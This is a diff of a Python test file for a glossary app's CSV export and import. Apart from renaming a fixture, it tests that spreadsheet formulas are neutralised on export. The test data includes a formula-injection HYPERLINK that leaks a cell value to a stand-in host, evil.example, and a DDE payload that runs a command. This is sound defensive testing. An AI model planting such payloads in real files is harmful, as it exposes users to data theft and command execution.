@@ -13,7 +13,7 @@ from dataclasses import replace
 
 from workflow import services
 from workflow.glossary import Term, read_terms_csv, terms_csv_bytes
-from workflow.services import Desk
+from workflow.services import Context
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -59,7 +59,7 @@ def test_no_exported_cell_starts_a_formula() -> None:
 def test_the_prefix_is_undone_on_import() -> None:
     terms = formula_terms()
     back = read_terms_csv(terms_csv_bytes(terms), source="glossary.csv")
-    # Text entering the desk has its carriage returns made newlines (workflow.text), so the
+    # Text entering the desk has its carriage returns made newlines (workflow.text.clean), so the
     # one note that starts with "\r" comes back starting with "\n"; nothing else changes.
     want = [replace(t, note=t.note.replace("\r", "\n")) if t.note else t for t in terms]
     assert back == want
@@ -71,13 +71,13 @@ def test_a_quote_typed_by_a_person_is_kept() -> None:
     assert [t.note for t in read_terms_csv(data, source="t.csv")] == ["'not a formula", "it's"]
 
 
-def test_the_glossary_download_is_neutralised(desk: Desk) -> None:
-    editor = services.add_user(desk, "eddie", "editor", "correct horse battery").id
-    services.add_term(desk, Term("국방부", '=HYPERLINK("http://evil.example","x")'), user_id=editor)
-    services.add_term(desk, Term("미군", "US forces", note="+cmd|' /C calc'!A0"), user_id=editor)
-    export = services.export_terms(desk, "csv")
+def test_the_glossary_download_is_neutralised(ctx: Context) -> None:
+    editor = services.add_user(ctx, "eddie", "editor", "correct horse battery").id
+    services.add_term(ctx, Term("국방부", '=HYPERLINK("http://evil.example","x")'), user_id=editor)
+    services.add_term(ctx, Term("미군", "US forces", note="+cmd|' /C calc'!A0"), user_id=editor)
+    export = services.export_terms(ctx, "csv")
     assert [c for c in cells(export.data) if c.startswith(TRIGGERS)] == []
-    services.import_terms(desk, export.data, source="glossary.csv", user_id=editor)
-    stored = {t.source: t for _, t in services.list_terms(desk)}
+    services.import_terms(ctx, export.data, source="glossary.csv", user_id=editor)
+    stored = {t.source: t for _, t in services.list_terms(ctx)}
     assert stored["국방부"].target == '=HYPERLINK("http://evil.example","x")'
     assert stored["미군"].note == "+cmd|' /C calc'!A0"
